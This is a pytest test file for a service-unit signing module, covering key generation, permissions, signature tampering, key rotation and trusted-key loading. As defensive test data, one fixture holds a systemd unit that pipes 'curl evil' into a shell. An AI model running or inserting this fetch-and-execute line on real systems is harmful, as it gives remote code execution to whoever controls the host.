"""fleetpy.unitfile.signing: key files, signatures over (name, content hash, version),
trusted key sets."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ec import SECP256R1, generate_private_key

from fleetpy.errors import ConfigError, SigningError
from fleetpy.unitfile.signing import (
    Accepted,
    Rejection,
    Verdict,
    generate_key,
    list_keys,
    load_signer,
    load_trusted_keys,
    message,
    parse_signature,
)
from fleetpy.unitfile.unit import content_hash

TEXT = "[Service]\nExecStart=/bin/sleep 1000\n"
HASH = content_hash(TEXT)
OTHER_TEXT = "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n"


def no_warning(message: str) -> None:
    raise AssertionError(f"unexpected warning: {message}")


def trusted_dir(tmp_path: Path, *pubs: Path) -> Path:
    directory = tmp_path / "trusted"
    directory.mkdir(exist_ok=True)
    for pub in pubs:
        (directory / pub.name).write_bytes(pub.read_bytes())
    return directory


def test_generate_writes_a_0600_private_key_and_a_public_key(tmp_path: Path) -> None:
    keys = tmp_path / "keys"
    info = generate_key(keys, "ops")
    assert info.private_path == keys / "ops.key" and info.public_path == keys / "ops.pub"
    assert stat.S_IMODE(info.private_path.stat().st_mode) == 0o600
    assert stat.S_IMODE(keys.stat().st_mode) == 0o700
    assert info.private_path.read_text().startswith("-----BEGIN PRIVATE KEY-----")
    assert info.public_path.read_text().startswith("-----BEGIN PUBLIC KEY-----")
    assert len(info.key_id) == 16
    listed = list_keys(keys)
    assert [(k.name, k.key_id, k.has_private) for k in listed] == [("ops", info.key_id, True)]


def test_generate_refuses_to_overwrite_and_bad_names(tmp_path: Path) -> None:
    first = generate_key(tmp_path, "ops")
    before = first.private_path.read_bytes()
    with pytest.raises(SigningError, match="exists already"):
        generate_key(tmp_path, "ops")
    assert first.private_path.read_bytes() == before
    (tmp_path / "half.pub").write_text("x")  # even a stray public half blocks the name
    with pytest.raises(SigningError, match="exists already"):
        generate_key(tmp_path, "half")
    assert not (tmp_path / "half.key").exists()
    for bad in ("../x", ".hidden", "-flag", "a/b", "", "x" * 65):
        with pytest.raises(SigningError, match="invalid key name"):
            generate_key(tmp_path, bad)


def test_list_shows_public_only_keys_without_private(tmp_path: Path) -> None:
    info = generate_key(tmp_path / "a", "rotated")
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "rotated.pub").write_bytes(info.public_path.read_bytes())
    assert [(k.name, k.key_id, k.has_private) for k in list_keys(tmp_path / "b")] == [
        ("rotated", info.key_id, False)
    ]
    assert list_keys(tmp_path / "missing") == []


def test_sign_and_verify(tmp_path: Path) -> None:
    info = generate_key(tmp_path / "keys", "ops")
    signer = load_signer("ops", tmp_path / "keys", no_warning)
    assert signer.key_id == info.key_id
    signature = signer.sign("web.service", HASH)
    parsed = parse_signature(signature)
    assert parsed is not None and parsed.key_id == info.key_id
    trusted = load_trusted_keys(trusted_dir(tmp_path, info.public_path), no_warning)
    accepted = trusted.check("web.service", HASH, TEXT, signature)
    assert accepted == Accepted(parsed.level, (info.key_id,))
    # The same key given as a path.
    assert load_signer(str(info.private_path), tmp_path / "elsewhere", no_warning).key_id == (
        info.key_id
    )


def test_the_message_is_domain_separated_and_binds_the_name_and_version() -> None:
    assert message("a.service", HASH).startswith(b"fleetpy unit signature v1\x00")
    assert message("a.service", HASH) != message("b.service", HASH)
    assert message("a.service", HASH, 0).startswith(b"fleetpy unit signature v2\x00")
    assert message("a.service", HASH, 1) != message("a.service", HASH, 2)
    assert message("a.service", HASH, 0) != message("a.service", HASH)


@pytest.mark.parametrize(
    ("case", "reason"),
    [
        ("unsigned", Rejection.UNSIGNED),
        ("other name", Rejection.FORGED),  # a signature moved onto another unit
        ("other hash", Rejection.FORGED),  # a new hash, the old signature
        ("swapped text", Rejection.CONTENT),  # the signed hash, other text
        ("garbage", Rejection.MALFORMED),
        ("spare bits", Rejection.MALFORMED),
        ("flipped bit", Rejection.FORGED),
        ("untrusted key", Rejection.UNTRUSTED),
    ],
)
def test_tampering_is_refused(tmp_path: Path, case: str, reason: Rejection) -> None:
    keys = tmp_path / "keys"
    good = generate_key(keys, "good")
    generate_key(keys, "stranger")
    signer = load_signer("good", keys, no_warning)
    stranger = load_signer("stranger", keys, no_warning)
    trusted = load_trusted_keys(trusted_dir(tmp_path, good.public_path), no_warning)
    name, digest, text = "web.service", HASH, TEXT
    signature: str | None = signer.sign(name, digest)
    if case == "unsigned":
        signature = None
    elif case == "other name":
        signature = signer.sign("db.service", digest)
    elif case == "other hash":
        digest, text = content_hash(OTHER_TEXT), OTHER_TEXT
    elif case == "swapped text":
        text = OTHER_TEXT
    elif case == "garbage":
        signature = "ed25519:nonsense"
    elif case == "spare bits":  # the same bytes in a second spelling: not ours
        assert signature is not None
        last = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_".index(
            signature[-1]
        )
        signature = (
            signature[:-1]
            + "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"[last | 1]
        )
    elif case == "flipped bit":
        assert signature is not None
        middle = len(signature) - 40
        flipped = "A" if signature[middle] != "A" else "B"
        signature = signature[:middle] + flipped + signature[middle + 1 :]
    elif case == "untrusted key":
        signature = stranger.sign(name, digest)
    verdict = trusted.check(name, digest, text, signature)
    assert isinstance(verdict, Verdict) and verdict.reason is reason, verdict
    assert verdict.detail and "\n" not in verdict.detail


def test_rotation_two_trusted_keys_at_once(tmp_path: Path) -> None:
    keys = tmp_path / "keys"
    old, new = generate_key(keys, "old"), generate_key(keys, "new")
    both = load_trusted_keys(trusted_dir(tmp_path, old.public_path, new.public_path), no_warning)
    for key in ("old", "new"):
        signature = load_signer(key, keys, no_warning).sign("a.service", HASH)
        assert isinstance(both.check("a.service", HASH, TEXT, signature), Accepted)
    # Retiring the old key: its signatures stop counting, the new key's still do.
    (tmp_path / "trusted" / "old.pub").unlink()
    only_new = load_trusted_keys(tmp_path / "trusted", no_warning)
    old_signature = load_signer("old", keys, no_warning).sign("a.service", HASH)
    verdict = only_new.check("a.service", HASH, TEXT, old_signature)
    assert isinstance(verdict, Verdict) and verdict.reason is Rejection.UNTRUSTED
    new_signature = load_signer("new", keys, no_warning).sign("a.service", HASH)
    assert isinstance(only_new.check("a.service", HASH, TEXT, new_signature), Accepted)


def test_private_key_readable_by_others_is_refused(tmp_path: Path) -> None:
    info = generate_key(tmp_path, "ops")
    for mode in (0o640, 0o604, 0o644):
        os.chmod(info.private_path, mode)
        with pytest.raises(SigningError, match=f"mode {mode:04o}.*chmod 600"):
            load_signer("ops", tmp_path, no_warning)
    os.chmod(info.private_path, 0o400)
    assert load_signer("ops", tmp_path, no_warning).key_id == info.key_id


def test_unusable_signing_keys_are_one_clear_error(tmp_path: Path) -> None:
    with pytest.raises(SigningError, match="no private key .*keys generate"):
        load_signer("absent", tmp_path, no_warning)
    (tmp_path / "text.key").write_text("hello\n")
    os.chmod(tmp_path / "text.key", 0o600)
    with pytest.raises(SigningError, match="not a PEM private key"):
        load_signer("text", tmp_path, no_warning)
    ec = generate_private_key(SECP256R1())
    (tmp_path / "ec.key").write_bytes(
        ec.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    os.chmod(tmp_path / "ec.key", 0o600)
    with pytest.raises(SigningError, match="not an ed25519 private key"):
        load_signer("ec", tmp_path, no_warning)
    (tmp_path / "dir.key").mkdir(mode=0o700)
    with pytest.raises(SigningError, match="not a regular file|directory"):
        load_signer("dir", tmp_path, no_warning)
    with pytest.raises(SigningError, match="invalid key name"):
        load_signer("bad name", tmp_path, no_warning)


def test_bad_trusted_key_files_warn_once_each_and_are_skipped(tmp_path: Path) -> None:
    good = generate_key(tmp_path / "keys", "good")
    directory = trusted_dir(tmp_path, good.public_path)
    (directory / "junk.pub").write_text("not a key\n")
    ec = generate_private_key(SECP256R1()).public_key()
    (directory / "ec.pub").write_bytes(
        ec.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    )
    (directory / "README").write_text("not a .pub: ignored\n")
    warnings: list[str] = []
    trusted = load_trusted_keys(directory, warnings.append)
    assert list(trusted.keys) == [good.key_id]
    assert len(warnings) == 2
    assert any("ec.pub is not an ed25519 public key" in w for w in warnings)
    assert any("junk.pub is not a PEM public key" in w for w in warnings)


def test_trusted_keys_directory_missing_or_empty(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="cannot read trusted keys directory"):
        load_trusted_keys(tmp_path / "missing", no_warning)
    warnings: list[str] = []
    empty = load_trusted_keys(tmp_path, warnings.append)
    assert warnings == [f"no usable public key in {tmp_path}: every unit will be rejected"]
    verdict = empty.check("a.service", HASH, TEXT, None)
    assert isinstance(verdict, Verdict) and verdict.reason is Rejection.UNSIGNED


def test_signer_vouches_only_for_its_own_keys(tmp_path: Path) -> None:
    keys = tmp_path / "keys"
    generate_key(keys, "a")
    generate_key(keys, "b")
    stranger = generate_key(tmp_path / "elsewhere", "c")
    signer = load_signer("a", keys, no_warning)
    b = load_signer("b", keys, no_warning)
    c = load_signer(str(stranger.private_path), tmp_path / "elsewhere", no_warning)
    assert isinstance(signer.own.verify("x.service", HASH, b.sign("x.service", HASH)), Accepted)
    refused = signer.own.verify("x.service", HASH, c.sign("x.service", HASH))
    assert isinstance(refused, Verdict) and refused.reason is Rejection.UNTRUSTED
